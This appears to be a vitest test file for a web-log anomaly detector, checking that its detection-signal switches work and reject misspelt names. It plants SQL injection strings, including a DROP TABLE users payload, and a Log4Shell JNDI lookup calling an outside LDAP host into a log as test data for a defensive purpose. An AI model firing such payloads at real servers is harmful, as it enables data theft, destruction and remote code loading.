// The signal switches that bench/quality/ablation.ts measures with: each must turn off what it names,
// and nothing may ignore a misspelt one.

import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { UsageError } from '../../src/errors.js';
import { detectAnomalies } from '../../src/pipeline/detect-anomalies.js';
import { checkSignalSwitches, signalSwitch } from '../../src/pipeline/detection-signals.js';
import { prepareScan, type PreparedScan } from '../../src/pipeline/prepare-scan.js';
import { BENIGN_LOG, HAVE_DATA } from '../features/attack-mix.js';
import { trigramEmbedder } from '../helpers/trigram-embedder.js';

const INJECTOR = '198.51.100.20';
const AGENT_ATTACKER = '198.51.100.21';

describe('signalSwitch', () => {
  it('turns off only the signals named false, and refuses a name it does not know', () => {
    const on = signalSwitch({ signatures: false });
    expect([on('signatures'), on('semantic')]).toEqual([false, true]);
    expect(() => checkSignalSwitches({ signature: false } as never)).toThrow(UsageError);
    expect(() => checkSignalSwitches({ signature: false } as never)).toThrow(/^option signals\.signature: unknown detection signal$/);
    expect(() => checkSignalSwitches({ semantic: 'false' } as never)).toThrow(/^option signals\.semantic "false": must be true or false$/);
    expect(() => checkSignalSwitches({ semantic: 0 } as never)).toThrow(/^option signals\.semantic 0: must be true or false$/);
  });
});

describe.skipIf(!HAVE_DATA)('turning the signatures off, on real elastic lines', () => {
  let prepared: PreparedScan;
  const injected: number[] = [];
  let agentLine = 0;

  beforeAll(async () => {
    const lines = readFileSync(BENIGN_LOG, 'utf8').trimEnd().split('\n').slice(0, 1500);
    const time = /\[([^\]]+)\]/.exec(lines[700]!)![1];
    // Three SQL injections from one client (answered 200: no probe), a Log4Shell user agent from another.
    for (const [k, query] of ["id=1'%20UNION%20SELECT%20password%20FROM%20users--", 'id=1%20OR%201=1--', "id=1';DROP%20TABLE%20users--"].entries()) {
      lines.splice(700 + k * 10, 0, `${INJECTOR} - - [${time}] "GET /blog/index.php?${query} HTTP/1.1" 200 312 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:26.0) Gecko/20100101 Firefox/26.0"`);
    }
    lines.splice(900, 0, `${AGENT_ATTACKER} - - [${time}] "GET / HTTP/1.1" 200 9045 "-" "\${jndi:ldap://198.51.100.99/a}"`);
    lines.forEach((line, i) => line.startsWith(`${INJECTOR} `) && injected.push(i + 1));
    agentLine = lines.findIndex((line) => line.startsWith(`${AGENT_ATTACKER} `)) + 1;
    const log = join(mkdtempSync(join(tmpdir(), 'semlog-signals-')), 'day.log');
    writeFileSync(log, `${lines.join('\n')}\n`);
    prepared = await prepareScan({ paths: [log], embedder: trigramEmbedder(), cacheDir: false });
  });

  it('with signatures, the payloads make their client hostile and the header attack is a finding', () => {
    const analysis = detectAnomalies(prepared);
    expect(analysis.ips.find((ip) => ip.ip === INJECTOR)?.labels).toContain('hostile');
    for (const line of injected) expect(analysis.lines.find((l) => l.line === line)?.tags).toContain('sql_injection');
    expect(analysis.lines.find((l) => l.line === agentLine)?.fields).toContain('userAgent');
  });

  it('without them, no line carries a tag, no client is hostile for payloads, no header attack is found', () => {
    const analysis = detectAnomalies(prepared, { signals: { signatures: false } });
    expect(analysis.lines.every((l) => l.tags.length === 0)).toBe(true);
    expect(analysis.ips.find((ip) => ip.ip === INJECTOR)?.labels ?? []).not.toContain('hostile');
    expect(analysis.ips.find((ip) => ip.ip === AGENT_ATTACKER)?.labels ?? []).not.toContain('hostile');
    expect(analysis.lines.some((l) => l.fields.includes('userAgent') || l.fields.includes('referer'))).toBe(false);
  });
});
